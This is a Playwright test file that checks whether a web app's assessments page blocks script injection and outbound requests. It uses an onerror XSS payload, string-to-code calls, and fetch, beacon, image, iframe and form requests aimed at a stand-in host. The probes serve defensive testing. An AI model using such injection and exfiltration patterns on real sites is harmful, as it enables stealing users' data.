import { createReadStream, existsSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { extname, join } from 'node:path';
import type { Page } from '@playwright/test';
import { expect, test } from '@playwright/test';

type Attempts = Record<string, () => unknown>;
declare global {
  interface Window {
    attempts: Attempts;
  }
}

/** What a hole in the program would let a text do. It stands in the page, since code that a test sends there may do more. */
function prepareAttempts(): void {
  window.attempts = {
    'markup from text': () => {
      document.body.innerHTML = '<img src="x" onerror="window.stolen = true">';
    },
    'markup read by the parser': () => new DOMParser().parseFromString('<p>text</p>', 'text/html'),
    'script from text': () => {
      document.createElement('script').text = 'window.stolen = true';
    },
    'script from an address of text': () => {
      document.createElement('script').src = '/before-start.js';
    },
    'a worker from an address of text': () => new Worker('/before-start.js'),
    'code from text': () => new Function('window.stolen = true')(),
    'code from text, later': () => Reflect.apply(setTimeout, window, ['window.stolen = true']),
  };
}

/** What could be done, by name; where all is well, nothing. */
function done(page: Page): Promise<string[]> {
  return page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        setTimeout(() => {
          const names = Object.entries(window.attempts).filter(([, attempt]) => {
            try {
              attempt();
              return true;
            } catch {
              return false;
            }
          });
          resolve(names.map(([name]) => name));
        });
      }),
  );
}

/** What would carry answers away, or show what another place sends. */
async function foreignRequests(page: Page): Promise<string[]> {
  const reached: string[] = [];
  await page.route('https://elsewhere.test/**', (route) => {
    reached.push(route.request().url());
    return route.fulfill({ body: 'reached' });
  });
  await page.evaluate(async () => {
    await fetch('https://elsewhere.test/fetch').catch(() => undefined);
    navigator.sendBeacon('https://elsewhere.test/beacon', 'text');
    const image = new Image();
    image.src = 'https://elsewhere.test/image';
    const frame = document.createElement('iframe');
    frame.src = 'https://elsewhere.test/frame';
    const style = document.createElement('link');
    style.rel = 'stylesheet';
    style.href = 'https://elsewhere.test/style';
    document.body.append(image, frame, style);
    const form = document.createElement('form');
    form.action = 'https://elsewhere.test/form';
    form.method = 'post';
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 300));
  });
  return reached;
}

test('text never becomes script or markup, and nothing leaves the page', async ({ page }) => {
  await page.addInitScript(prepareAttempts);
  await page.goto('/assessments');
  await page.getByRole('heading', { level: 1 }).waitFor();
  expect(await done(page)).toEqual([]);
  expect(await foreignRequests(page)).toEqual([]);
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
});

test('the same holds where a host sends no headers', async ({ page }) => {
  const types: Readonly<Record<string, string>> = {
    '.html': 'text/html',
    '.js': 'text/javascript',
    '.css': 'text/css',
  };
  const server = createServer(({ url = '/' }, response) => {
    const path = join('dist', new URL(url, 'http://localhost').pathname);
    const file = extname(path) === '' ? 'dist/app.html' : path;
    if (!existsSync(file)) return response.writeHead(404).end();
    response.writeHead(200, { 'content-type': types[extname(file)] ?? 'application/octet-stream' });
    return createReadStream(file).pipe(response);
  });
  await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve));
  const { port } = server.address() as AddressInfo;
  await page.addInitScript(prepareAttempts);
  await page.goto(`http://localhost:${port}/assessments`);
  await page.getByRole('heading', { level: 1 }).waitFor();
  expect(await done(page)).toEqual([]);
  expect(await foreignRequests(page)).toEqual([]);
  server.close();
});
